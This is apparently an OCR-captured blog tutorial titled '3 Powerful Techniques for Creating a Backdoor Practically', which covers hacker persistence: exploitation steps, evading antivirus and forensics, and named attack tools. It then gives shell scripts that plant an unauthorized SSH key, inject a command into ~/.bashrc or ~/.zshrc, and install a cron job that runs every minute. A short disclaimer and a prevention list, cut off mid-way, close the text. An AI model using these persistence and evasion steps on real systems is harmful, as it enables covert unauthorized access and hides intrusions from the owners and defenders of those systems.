3 Powerful Techniques for Creating a Backdoor Practically and Maintaining Persistent Access

3 Powerful Techniques for Creating a Backdoor Practically and Maintaining Persistent Access


In this comprehensive tutorial, we will delve deeply into the techniques employed by hackers to install backdoors and maintain persistent access in compromised devices or networks. Backdoors serve as hidden entry points that allow unauthorized access, while persistent access enables hackers to operate stealthily over prolonged periods.

What Is A Backdoor Attack?

A backdoor attack refers to the secret method used by hackers to gain unauthorized access to a system or network. Unlike traditional access methods, backdoors are hidden and often undetectable, allowing hackers to maintain covert access for malicious purposes.

What is Persistence or Backdoors?

Persistence, in the context of cybersecurity, refers to the ability of hackers to maintain access to a compromised system or network over time. Backdoors are a common mechanism used to achieve persistence, enabling hackers to revisit and control the compromised environment at will.

How are Persistent Backdoors created?

Part 1: Exploiting Vulnerabilities

Hackers often initiate their intrusion by exploiting vulnerabilities present in websites, software, systems, or networks. These vulnerabilities could be due to unpatched software, weak authentication mechanisms, misconfigured servers, or outdated applications. Hackers use a variety of tools andtechniques to identify and exploit these weaknesses.

Step 1: Identify Vulnerabilities
  • Utilize automated vulnerability scanners such as Nessus, OpenVAS, or Qualys to conduct comprehensive scans.
  • Manually analyze system configurations and application versions to identify potential entry points.
Step 2: Exploit Vulnerabilities
  • Utilize exploit frameworks like Metasploit, Core Impact, or Exploit Database to exploit identified vulnerabilities.
  • Craft custom payloads or leverage existing exploit modules to gain initial access to the target system.
Part 2: Deploying Backdoors

Upon gaining initial access, hackers proceed to deploy backdoors to ensure persistent and covert access to the compromised system. Backdoors can take various forms, including malicious scripts, Trojans, remote access tools (RATs), or rootkits.

Step 3: Choose Backdoor Type
  • Evaluate the target system’s architecture and security measures to select an appropriate backdoor type.
  • Consider using rootkits for stealth and persistence, as they can conceal malicious activities effectively.
Step 4: Deploy Backdoor
  • Upload and execute the selected backdoor on the compromised system.• Ensure the backdoor operates covertly by avoiding detection mechanisms such as antivirus software or intrusion detection systems (IDS).
Part 3: Maintaining Persistent Access Stealthily

To maintain persistent access without raising suspicion, hackers employ various techniques such as rootkits, hidden communication channels, and evasion tactics.

Step 5: Establish Communication Channels
  • Set up encrypted communication channels using tools like Netcat, Cryptcat, or custom encryption scripts.
  • Employ steganography techniques to conceal communication within innocuous data or image files.
Step 6: Implement Evasion Tactics
  • Use polymorphic malware to generate unique variants that evade signature-based detection.
  • Employ anti-forensic techniques to erase digital footprints and evade forensic analysis.

Different Types of Creating a Backdoor

In this section, we’ll delve into the various techniques used by hackers to create backdoors, providing a comprehensive understanding of these methods from a practical standpoint.1. Exploiting Software Vulnerabilities

One of the most common methods for creating a backdoor is by exploiting software vulnerabilities. This involves identifying weaknesses or flaws in software applications, operating systems, or firmware that can be manipulated to gain unauthorized access.


  • Buffer Overflow: Sending more data than a buffer can handle, leading to overwriting adjacent memory and executing arbitrary code.
  • SQL Injection: Injecting malicious SQL queries into input fields to manipulate databases and gain access to sensitive information.
  • Remote Code Execution (RCE): Exploiting vulnerabilities that allow remote attackers to execute arbitrary code on target systems.
  • Command Injection: Injecting malicious commands into input fields to execute arbitrary commands on the underlying operating system.

Tools: Metasploit, ExploitDB, Nessus, Burp Suite.

2. Backdooring Software

Another approach is to backdoor legitimate software by inserting malicious code or modifying its functionality to create a secret entry point.


  • Trojan Horse: Concealing malicious code within seemingly harmless software or files to trick users into installing them.
  • DLL Injection: Injecting maliciousdynamic-link library (DLL) files into running processes to gain elevated privileges.
  • Rootkit Installation: Installing rootkits to hide malicious processes, files, and network connections from detection.

Tools: Veil Framework, EvilGrade, Shellter.

3. Social Engineering

Social engineering techniques can be used to manipulate individuals into unwittingly creating backdoors or providing access credentials.


  • Phishing: Sending deceptive emails or messages that appear legitimate to trick users into disclosing passwords or downloading malicious files.
  • Pretexting: Creating a false pretext or scenario to trick individuals into divulging sensitive information or performing unauthorized actions.

Tools: Social-Engineer Toolkit (SET), PhishX, BeEF.

4. Hardware Backdoors

Creating hardware-based backdoors involves manipulating physical devices or components to facilitate unauthorized access.


  • Hardware Implants: Installing covert hardware implants, such as keyloggers or network sniffers, within target systems or devices.
  • Firmware Modification: Altering firmware code in devices, such as routers or IoT devices, to create hidden backdoor functionality.

Tools: JTAGulator, Bus Pirate, GoodFET.

5. Network-Based BackdoorsNetwork-based backdoors exploit weaknesses in network protocols or configurations to establish covert communication channels.


  • Reverse Shell: Creating a reverse shell connection to a compromised system, allowing remote access and control.
  • Covert Channels: Establishing hidden communication channels within legitimate network traffic to evade detection.

Tools: Netcat, Meterpreter, Cobalt Strike.

3 ways of creating a backdoor practically

1.SSH Backdoor Script:

This script demonstrates the creation of an SSH backdoor, a common technique used by attackers to gain unauthorized access to systems. It generates an SSH key pair, adds the public key to the authorized keys file on the target system, and establishes a stealthy SSHconnection for persistent access.


# Generate SSH Key Pair
ssh-keygen -t rsa -b 2048 -f backdoor_key

# Add Unauthorized SSH Key to Target System
cat backdoor_key.pub >> ~/.ssh/authorized_keys

# Stealthy Access
ssh -i backdoor_key user@target_server


  • Generate SSH Key Pair: This command generates a new SSH key pair (backdoor_key and backdoor_key.pub) using RSA encryption with a key size of 2048 bits.
  • Add Unauthorized SSH Key: Appends the public key (backdoor_key.pub) to the ~/.ssh/authorized_keys file on the target system, granting unauthorized SSH access.
  • Stealthy Access: Connects to the target server (target_server) using the generated SSH key (backdoor_key) and the specified username (user).
    Replace user with the target username and target_server with the server’s IP or hostname. Ensure the script is executable (chmod +x ssh_backdoor_script.sh) and run it to create the SSH backdoor.
2. Bashrc/zshrc Modifications Script:

This script demonstrates the modification of the bashrc or zshrc file to include a malicious command or script, which executes every time a user logs in. It showcases a common persistence technique used by attackers to maintaincontrol over compromised systems.


# Add Malicious Command to Bashrc/zshrc
echo "malicious_command_here" >> ~/.bashrc

# OR

echo "malicious_command_here" >> ~/.zshrc


  • Appends the command “malicious_command_here” to either the ~/.bashrc or ~/.zshrc file, ensuring that the malicious command executes every time a user logs in.

Replace “malicious_command_here” with the actual command or script you want to execute upon user login. Ensure the script is executable and run it to modify the bashrc or zshrc file accordingly.

3. Cronjob Backdoor Script:This script demonstrates the creation of a cronjob that executes a malicious script at specified intervals, showcasing another persistence technique commonly used by attackers for stealthy and automated malicious activities.


# Create Malicious Script
echo '#!/bin/bash' > malicious_script.sh
echo'echo "Malicious activity executed!"' >> malicious_script.sh
chmod +x malicious_script.sh

# Add Cronjob Entry
echo '* * * * * /path/to/malicious_script.sh' | crontab -


  • Create Malicious Script: Creates a new bash script (malicious_script.sh) with a command to echo a message (“Malicious activity executed!”) upon execution.
  • Add Cronjob Entry: Adds a cronjob that executes the malicious script (malicious_script.sh) every minute.

Replace /path/to/malicious_script.sh with the actual path to the malicious script you created. Ensure the script is executable and run it to create the cronjob backdoor.

These detailed scripts demonstrate the implementation of SSH backdoors, bashrc/zshrc modifications, and cronjob backdoors for educational purposes only. It’s crucial to use them responsiblyand ethically in controlled environments for security testing or research purposes only.

Backdoor Prevention Strategies

In the ever-evolving landscape of cybersecurity, preventing backdoor attacks is paramount to safeguarding systems, networks, and sensitive data. Employing proactive measures and robust defenses can significantly reduce the risk of backdoors being exploited by malicious actors. Here are effective strategies for backdoor prevention:1. Regular Software Updates and Patching:
    • Keep all software, applications, and operating systems updated with the latest security patches and fixes.
    • Patch known vulnerabilities promptly to prevent attackers from exploiting them to create backdoors.
  2. Strong Access Control Policies:
    • Implement strict access control policies and principles, such as the principle of least privilege (PoLP), to limit user privileges and access rights.
